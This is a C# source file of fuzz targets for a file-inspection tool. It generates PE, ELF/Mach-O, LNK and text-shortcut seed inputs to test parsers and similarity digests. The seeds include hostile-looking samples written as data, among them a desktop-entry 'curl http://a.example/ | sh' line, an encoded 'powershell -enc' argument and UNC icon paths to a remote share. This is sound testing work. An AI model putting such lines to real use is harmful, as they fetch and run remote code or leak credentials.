using System.Text;
using Noroshi.MailAnatomy.FileTypes;
using Noroshi.MailAnatomy.FileTypes.Shortcuts;
using Noroshi.MailAnatomy.FileTypes.Similarity;
using Noroshi.Makers.FileTypes;
using Noroshi.Makers.Programs;
using Noroshi.Makers.Shortcuts;

namespace Noroshi.Fuzz.Targets;

internal sealed class PeTarget : IFuzzTarget
{
    public string Name => "pe";

    public IReadOnlyList<byte[]> Dictionary { get; } =
    [
        [.. "PE\0\0"u8],
        [.. "Rich"u8],
        [.. "DanS"u8],
        [.. "RSDS"u8],
        [.. "NB10"u8],
        [.. "BSJB"u8],
        [0x0B, 1],
        [0x0B, 2],
        [0xEF, 0xBE, 0xAD, 0xDE],
        [0, 0x20, 0, 0],
        [0, 0, 0, 0x80],
        [0xBD, 4, 0xEF, 0xFE],
        [.. Encoding.Unicode.GetBytes("VS_VERSION_INFO")],
        [.. Encoding.Unicode.GetBytes("StringFileInfo")],
        [0x30, 0x82],
        [.. "#~\0\0"u8],
    ];

    public IEnumerable<byte[]> Seeds()
    {
        yield return ProgramMaker.Pe();
        yield return ProgramMaker.Pe(wide: true, dll: true);
        yield return ProgramMaker.Dos();
        yield return Filled(wide: false).Build();
        yield return Filled(wide: true).Version(("CompanyName", "会社"), ("OriginalFilename", "a.exe")).Build();
        yield return new PortableMaker { DataSection = "UPX1", Checksum = 7 }
            .Icon((x, y) => PortableMaker.Page(x, y, 0x2B579A))
            .Build();
        yield return new PortableMaker().Directory(9, new byte[40]).Directory(14, Clr()).Build();
        yield return ProgramSeeds.Managed();
        yield return ProgramSeeds.Signed();
    }

    public void Run(byte[] bytes) => Inspecting.Run(bytes);

    private static PortableMaker Filled(bool wide) =>
        new PortableMaker { Wide = wide, Overlay = [.. "overlay"u8] }
            .Rich(0, (0x5D, 4_035, 3), (0xAA, 30_319, 7))
            .Imports(("KERNEL32.dll", ["CreateFileA", "#7"]), ("ws2_32.dll", ["#115", "#23"]))
            .Exports("a.dll", "Run", "Stop")
            .Pdb(new Guid("5A3C1E0B-7F2D-4B61-9C44-2E6A80D1F905"), 3, @"C:\work\a.pdb")
            .Resource(10, 101, new byte[60]);

    private static byte[] Clr() => [0x48, 0, 0, 0, 2, 0, 5, 0, 0, 0x20, 0, 0, 0x40, 0, 0, 0, 1, 0, 0, 0, .. new byte[52]];
}

internal sealed class ForeignProgramTarget : IFuzzTarget
{
    public string Name => "elf-macho";

    public IReadOnlyList<byte[]> Dictionary { get; } =
    [
        [0x7F, .. "ELF"u8, 2, 1],
        [0x7F, .. "ELF"u8, 1, 2],
        [0xCF, 0xFA, 0xED, 0xFE],
        [0xCA, 0xFE, 0xBA, 0xBE],
        [0xCA, 0xFE, 0xBA, 0xBF],
        [0xFA, 0xDE, 0x0C, 0xC0],
        [0xFA, 0xDE, 0x0C, 2],
        [0x1D, 0, 0, 0, 16, 0, 0, 0],
        [0x1B, 0, 0, 0, 24, 0, 0, 0],
        [.. "GNU\0"u8],
        [.. ".gnu_debuglink\0"u8],
        [.. ".comment\0"u8],
        [0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0x7F],
    ];

    public IEnumerable<byte[]> Seeds()
    {
        var apple = Apple();
        byte[] fat = [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 1, 1, 0, 0, 7, 0, 0, 0, 3, 0, 0, 0, 28, 0, 0, 0, (byte)apple.Length, 0, 0, 0, 0];
        return [ProgramMaker.Elf(), ProgramMaker.MachO(), apple, [.. fat, .. apple]];
    }

    public void Run(byte[] bytes) => Inspecting.Run(bytes);

    private static byte[] Apple()
    {
        byte[] identity = [.. "com.example.a\0"u8];
        byte[] directory =
        [
            0xFA,
            0xDE,
            0x0C,
            2,
            0,
            0,
            0,
            66,
            0,
            2,
            4,
            0,
            0,
            0,
            0,
            0,
            0,
            0,
            0,
            0,
            0,
            0,
            0,
            52,
            .. new byte[28],
            .. identity,
        ];
        byte[] signature = [0xFA, 0xDE, 0x0C, 0xC0, 0, 0, 0, 86, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 20, .. directory];
        return
        [
            0xCF,
            0xFA,
            0xED,
            0xFE,
            7,
            0,
            0,
            1,
            3,
            0,
            0,
            0,
            2,
            0,
            0,
            0,
            2,
            0,
            0,
            0,
            40,
            0,
            0,
            0,
            .. new byte[8],
            .. new byte[] { 0x1B, 0, 0, 0, 24, 0, 0, 0 },
            .. Guid.Empty.ToByteArray(),
            .. new byte[] { 0x1D, 0, 0, 0, 16, 0, 0, 0, 72, 0, 0, 0, 86, 0, 0, 0 },
            .. signature,
        ];
    }
}

/// <summary>The likeness digest of anything, and the distance of two texts that may be digests.</summary>
internal sealed class SimilarityTarget : IFuzzTarget
{
    public string Name => "tlsh";

    public IReadOnlyList<byte[]> Dictionary =>
        [
            [.. "T1"u8],
        ];

    public IEnumerable<byte[]> Seeds()
    {
        var program = ProgramMaker.Pe();
        var text = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Range(0, 100).Select(number => $"noroshi {number * number} ")));
        yield return program;
        yield return text;
        yield return new byte[600];
        var digest = Tlsh.Of(text) ?? "";
        yield return Encoding.ASCII.GetBytes(digest + digest);
    }

    public void Run(byte[] bytes)
    {
        var half = bytes.Length / 2;
        var one = Tlsh.Of(bytes);
        if (one is not null && Tlsh.Distance(one, one) != 0)
        {
            throw new InvalidOperationException("a digest is not like itself");
        }

        if (Tlsh.Of(bytes.AsSpan(half)) is { } other && one is not null && Tlsh.Distance(one, other) is null)
        {
            throw new InvalidOperationException("own digests are not read");
        }

        Tlsh.Distance(Encoding.Latin1.GetString(bytes, 0, half), Encoding.Latin1.GetString(bytes, half, bytes.Length - half));
    }
}

internal sealed class LinkTarget : IFuzzTarget
{
    public string Name => "lnk";

    public IReadOnlyList<byte[]> Dictionary { get; } =
    [
        [0x1F, 0x50],
        [4, 0, 0xEF, 0xBE],
        [.. "1SPS"u8],
        [1, 0, 0, 0xA0],
        [2, 0, 0, 0xA0],
        [3, 0, 0, 0xA0],
        [4, 0, 0, 0xA0],
        [5, 0, 0, 0xA0],
        [6, 0, 0, 0xA0],
        [7, 0, 0, 0xA0],
        [8, 0, 0, 0xA0],
        [9, 0, 0, 0xA0],
        [0x0B, 0, 0, 0xA0],
        [0x0C, 0, 0, 0xA0],
        [0x1C, 0, 0, 0],
        [0x24, 0, 0, 0],
        [0xFF, 0xFF],
        [.. "/c powershell -enc "u8],
        [.. Encoding.Unicode.GetBytes("%SystemRoot%\\System32\\cmd.exe")],
    ];

    public IEnumerable<byte[]> Seeds()
    {
        var volume = new Guid("5A3C1E0B-7F2D-4B61-9C44-2E6A80D1F905");
        yield return ProgramMaker.Lnk();
        yield return new LinkMaker
        {
            ShowCommand = 7,
            IconIndex = 1,
            HotKey = 0x0341,
            Appended = [.. "MZ appended"u8],
        }
            .Target(@"C:\", "Windows", "System32", "cmd.exe")
            .Location(0x1234_5678, "OS", [.. @"C:\Windows\System32\cmd.exe"u8])
            .Text(4, "説明")
            .Text(8, @"..\..\cmd.exe")
            .Text(0x10, @"C:\")
            .Text(0x20, "/c powershell -enc VwByAGkAdABlAA==")
            .Text(0x40, @"C:\a.pdf")
            .Variable(1, @"%ComSpec%")
            .Tracker("yamada-pc", volume, new Guid("0f0e0d0c-0b0a-11e3-8001-020304050607"))
            .Property(new Guid("46588AE2-4CBC-4338-BBFC-139326986DCE"), 4, "S-1-5-21-1-2-3-1001")
            .Build();
        yield return new LinkMaker()
            .Share(@"\\192.0.2.1\s", 0x0002_0000, @"a\b.exe")
            .Variable(7, @"%ProgramFiles%\a.ico")
            .Text(0x40, "http://a.example/i.ico")
            .Build();
        yield return new LinkMaker { Terminal = false }
            .Item([0x61, 0, .. "http://a.example/"u8, 0])
            .Item([0xC3, 1, .. @"\\h\s"u8, 0, 0])
            .Item([0x71, 0, .. volume.ToByteArray()])
            .Item([0x74, 0, .. "CFSF"u8, .. new byte[20]])
            .Block([0x14, 0, 0, 0, 6, 0, 0, 0xA0, .. new byte[12]])
            .Build();
    }

    public void Run(byte[] bytes)
    {
        if (LinkReader.Read(bytes) is not { } link)
        {
            return;
        }

        var inspection = new FileInspection();
        LinkReport.Add(link, bytes, inspection);
        Inspecting.Read(inspection, bytes.Length);
    }
}

/// <summary>Shortcuts of text, each input as every format.</summary>
internal sealed class TextShortcutTarget : IFuzzTarget
{
    private static readonly string[] Formats =
    [
        "url",
        "desktop",
        "webloc",
        "library-ms",
        "search-ms",
        "settingcontent-ms",
        "searchconnector-ms",
        "scf",
        "rdp",
        "jnlp",
    ];

    private static readonly string[] Texts =
    [
        "[InternetShortcut]\r\nURL=file://192.0.2.1/a/b.exe\r\nIconFile=C:\\a.ico\r\nIconIndex=1\r\nHotKey=0\r\nModified=30D5A3C1E0B7F201A4\r\n[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n",
        "[Desktop Entry]\nType=Application\nName=a\nExec=sh -c \"curl http://a.example/ | sh\"\nIcon=pdf\n",
        "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>URL</key><string>http://a.example/</string></dict></plist>",
        "<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><ownerSID>S-1-5-21-1</ownerSID><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\192.0.2.1\\a</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>",
        "<PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\cmd.exe /c a</DeepLink><Icon>%windir%\\a.ico</Icon></ApplicationInformation></SearchableContent></PCSettings>",
        "[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\s\\a.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n",
        "full address:s:192.0.2.1:3389\r\nremoteapplicationprogram:s:||a\r\nsignature:s:AQ==\r\n",
        "<jnlp codebase=\"http://a.example/\" href=\"a.jnlp\"><resources><jar href=\"a.jar\"/></resources><application-desc main-class=\"A\"/></jnlp>",
    ];

    public string Name => "text-shortcuts";

    public IReadOnlyList<byte[]> Dictionary { get; } =
    [
        .. new[]
        {
            "[InternetShortcut]\r\n",
            "URL=",
            "IconFile=\\\\192.0.2.1\\a\r\n",
            "WorkingDirectory=",
            "[Desktop Entry]\n",
            "Exec=",
            "[Shell]\r\nCommand=2\r\n",
            "full address:s:",
            "<string>",
            "<key>URL</key>",
            "<url>",
            "<simpleLocation>",
        }
            .Concat([
                "<DeepLink>",
                "<application-desc main-class=\"",
                "codebase=\"",
                "<![CDATA[",
                "&amp;",
                "HotKey=",
                "Modified=",
                "file://",
            ])
            .Select(Encoding.ASCII.GetBytes),
    ];

    public IEnumerable<byte[]> Seeds() => Texts.Select(Encoding.UTF8.GetBytes);

    public void Run(byte[] bytes)
    {
        foreach (var format in Formats)
        {
            TextShortcuts.Add(bytes, format, new FileInspection());
        }

        Inspecting.Run(bytes);
    }
}
